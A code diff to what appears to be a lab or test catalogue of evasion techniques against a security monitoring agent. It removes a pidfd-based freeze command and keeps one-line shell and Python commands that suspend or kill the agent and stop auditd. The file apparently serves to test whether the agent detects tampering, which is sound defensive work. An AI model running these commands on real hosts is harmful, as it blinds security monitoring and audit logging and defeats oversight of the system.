@@ -81,10 +81,6 @@ export const evasion: Technique[] = [
         name: 'freeze the agent from python os.kill',
         script: `python3 -c 'import json,os,signal,time; p=json.load(open("/var/lib/vigil-agent/status.json"))["pid"]; os.kill(p, signal.SIGSTOP); time.sleep(1); os.kill(p, signal.SIGCONT)'`,
       },
-      {
-        name: 'freeze the agent through a pidfd',
-        script: `python3 -c 'import json,os,signal,time; fd=os.pidfd_open(json.load(open("/var/lib/vigil-agent/status.json"))["pid"]); signal.pidfd_send_signal(fd, signal.SIGSTOP); time.sleep(1); signal.pidfd_send_signal(fd, signal.SIGCONT)'`,
-      },
       // The agent reports the SIGTERM before it stops (its link is the last thing to go); the lab starts it again.
       { name: 'kill -TERM the agent', script: `${AGENT_PID} && kill -TERM "$pid" && sleep 0.5`, stopsAgent: true },
       { name: 'systemctl stop auditd and the agent', script: 'systemctl stop auditd 2>&1; systemctl disable --now vigil-agent 2>&1; true' },
